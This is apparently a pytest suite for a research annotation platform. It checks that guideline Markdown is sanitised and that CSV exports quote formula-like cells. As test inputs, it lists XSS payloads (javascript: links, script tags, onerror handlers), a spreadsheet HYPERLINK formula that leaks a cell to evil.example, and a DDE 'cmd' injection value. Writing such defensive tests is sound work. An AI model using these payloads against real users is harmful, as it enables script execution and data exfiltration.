"""Output safety: guideline Markdown is sanitised, and no CSV export hands a spreadsheet a
formula (a text cell starting with = + - @ tab or CR gets a leading single quote)."""

import csv
import io
from html.parser import HTMLParser
from io import StringIO
from types import SimpleNamespace
from urllib.parse import urlsplit

import pandas as pd
import pytest
from django.core.management import call_command
from django.urls import reverse

from annotation.queue import queue
from annotation.task_types.names import PASSAGE_RATING
from annotation.templatetags.annotation_tags import guidelines_html
from annotation.workspace.submission import submit
from crux_app.csv_safety import safe_cell, safe_frame, safe_row
from crux_app.models import Run
from evaluation.agreement.report_export import SECTIONS, to_csv
from evaluation.agreement.report_rows import RECORD_KEYS as AGREEMENT_KEYS
from evaluation.crux.record_text import render_reports, render_runs
from evaluation.scaar.export import render_csv
from evaluation.seper.evouna import SCORERS, SystemScores, render_report
from tests.annotation.campaign_data import make_annotator, make_campaign
from tests.evaluation.reteval.reteval_data import make_reteval_collection
from tests.evaluation.reteval.scenario import run_scenario


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, attrs))


def elements(html: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    """Every start tag of ``html`` with its attributes, as a browser would read them."""
    parser = _Elements()
    parser.feed(html)
    return parser.found


HOSTILE = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
NEUTRALISED = "'" + HOSTILE


# --- Markdown --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "source",
    [
        "[x](javascript:alert(22))",
        "[x](JavaScript:alert(22))",
        "[x]( javascript:alert(22))",
        "[x](vbscript:msgbox(1))",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "![x](javascript:alert(22))",
        '[x](https://ok.example "t" onmouseover=alert(1))',
        "<script>alert(1)</script>",
        '<a href="javascript:alert(1)">x</a>',
        "<img src=x onerror=alert(1)>",
    ],
)
def test_guideline_markdown_never_carries_script(source):
    html = str(guidelines_html(source))
    for tag, attrs in elements(html):
        assert tag not in ("script", "style", "iframe", "object", "embed"), html
        for name, value in attrs:
            assert not name.startswith("on"), html
            if name in ("href", "src"):
                scheme = urlsplit((value or "").strip()).scheme.lower()
                assert scheme in ("", "http", "https", "mailto"), html


def test_guideline_markdown_keeps_ordinary_formatting_and_safe_links():
    html = str(
        guidelines_html(
            "# Rate\n\nBe **strict**, see [the paper](https://example.org/a?b=1&c=2), "
            "[the list](/campaigns/) or [mail](mailto:lab@example.org).\n\n1. one\n2. two"
        )
    )
    assert "<h1>Rate</h1>" in html and "<strong>strict</strong>" in html
    assert '<a href="https://example.org/a?b=1&amp;c=2" rel="noopener noreferrer">' in html
    assert '<a href="/campaigns/" rel="noopener noreferrer">' in html
    assert '<a href="mailto:lab@example.org" rel="noopener noreferrer">' in html
    assert "<ol>\n<li>one</li>" in html


@pytest.mark.django_db
def test_the_workspace_shows_a_javascript_link_in_the_guidelines_as_dead_text(client):
    anna = make_annotator("anna")
    campaign = make_campaign(PASSAGE_RATING, overlap=1, annotators=[anna])
    campaign.guidelines_md = "Read [x](javascript:alert(22)) first."
    campaign.save(update_fields=["guidelines_md"])
    client.force_login(anna)
    html = client.get(reverse("annotation-workspace", args=[campaign.slug])).content.decode()
    assert "javascript:" not in html
    assert '<a rel="noopener noreferrer">x</a>' in html


# --- The CSV helper --------------------------------------------------------------------------


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_text_cells_starting_like_a_formula_get_a_quote(prefix):
    assert safe_cell(f"{prefix}1+1") == f"'{prefix}1+1"


def test_numbers_and_plain_text_are_left_alone():
    for value in (-1, -0.5, 3, 0.0, True, None, "", "plain", "a=b", "1-2"):
        assert safe_cell(value) == value
    assert safe_row({"a": "-1", "b": -1}) == {"a": "'-1", "b": -1}
    frame = safe_frame(pd.DataFrame({"n": [-1, 2], "x": [-0.5, 1.0], "t": ["@x", "y"]}))
    assert frame.to_csv(index=False) == "n,x,t\n-1,-0.5,'@x\n2,1.0,y\n"


# --- Every CSV export ------------------------------------------------------------------------


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.django_db
def test_campaign_csv_export_neutralises_a_hostile_rationale(researcher_client):
    anna = make_annotator("anna")
    campaign = make_campaign(PASSAGE_RATING, overlap=1, annotators=[anna])
    submit(queue.next_item(campaign, anna).assignment, {"rating": 3, "rationale": HOSTILE}, 900)
    response = researcher_client.get(reverse("campaign-export", args=[campaign.pk, "csv"]))
    header, row = cells(response.content.decode())
    record = dict(zip(header, row, strict=True))
    assert record["rationale"] == NEUTRALISED
    assert (record["rating"], record["annotator"]) == ("3", "anna")


def test_agreement_csv_neutralises_a_hostile_cell():
    record = {key: None for key in AGREEMENT_KEYS} | {"task": HOSTILE, "value": -0.25}
    row = SimpleNamespace(as_dict=lambda: dict(record))
    report = SimpleNamespace(**{s: [] for s in SECTIONS} | {"inter_annotator": [row]})
    header, line = cells(to_csv(report))
    got = dict(zip(header, line, strict=True))
    assert got["task"] == NEUTRALISED and got["value"] == "-0.25"


def test_evaluate_csv_neutralises_hostile_run_and_system_names():
    run = SimpleNamespace(name=HOSTILE)
    evaluation = SimpleNamespace(
        runs=[run],
        record=lambda r: {"run": r.name, "missing_judgments": -1},
        report_records=lambda: [{"system": HOSTILE, "judge": "@judge", "coverage": -0.5}],
    )
    header, line = cells(render_runs(evaluation, "csv"))
    got = dict(zip(header, line, strict=True))
    assert got["run"] == NEUTRALISED and got["missing_judgments"] == "-1"
    header, line = cells(render_reports(evaluation, "csv"))
    got = dict(zip(header, line, strict=True))
    assert (got["system"], got["judge"], got["coverage"]) == (NEUTRALISED, "'@judge", "-0.5")


def test_scaar_csv_neutralises_a_hostile_system_name():
    analysis = SimpleNamespace(
        output=SimpleNamespace(external_id="+cmd|' /C calc'!A0", system=HOSTILE),
        topic=SimpleNamespace(external_id="t1", request="q"),
        generator="g",
        embedder="e",
        params={"k": 1},
        logprob_source="model",
        n_sentences=2,
        n_retrievals=1,
        flare_retrievals=0,
        score_metric="f1",
        score_before=-0.5,
        score_after=0.5,
        refined_text="",
        flare_score_after=None,
        flare_refined_text="",
        detail={},
    )
    header, line = cells(render_csv([analysis]))
    got = dict(zip(header, line, strict=True))
    assert got["system"] == NEUTRALISED and got["output"] == "'+cmd|' /C calc'!A0"
    assert got["score_before"] == "-0.5"


def test_evouna_csv_neutralises_a_hostile_system_name():
    scores = [SystemScores(HOSTILE, 3, 0, {name: (-0.0, 1.0) for name in SCORERS})]
    header, line = cells(render_report(SimpleNamespace(), scores, "csv", {}))
    assert dict(zip(header, line, strict=True))["system"] == NEUTRALISED


@pytest.mark.django_db
def test_reteval_csv_neutralises_a_hostile_run_name():
    data = make_reteval_collection()
    run_scenario(data)  # scripted models: results stored at k 1 and 2
    Run.objects.filter(pk=data.run.pk).update(name=HOSTILE)
    out, err = StringIO(), StringIO()
    call_command(
        "reteval", "--collection", data.collection.name, "--run", HOSTILE, "--k", "1",
        "--format", "csv", stdout=out, stderr=err,
    )  # fmt: skip
    header, line = cells(out.getvalue())
    got = dict(zip(header, line, strict=True))
    assert got["run"] == NEUTRALISED and got["k"] == "1"


@pytest.mark.django_db
def test_a_platform_export_refuses_a_malformed_annotator_name_with_a_400(researcher_client):
    from annotation.task_types.names import PASSAGE_RATING
    from tests.annotation.campaign_data import make_campaign

    campaign = make_campaign(PASSAGE_RATING)
    url = reverse("campaign-export", args=[campaign.pk, "qrels"])
    for bad in ["1\x00", "x" * 500, "<img src=x>"]:
        response = researcher_client.get(url, {"annotator": bad})
        assert response.status_code == 400 and b"annotator:" in response.content
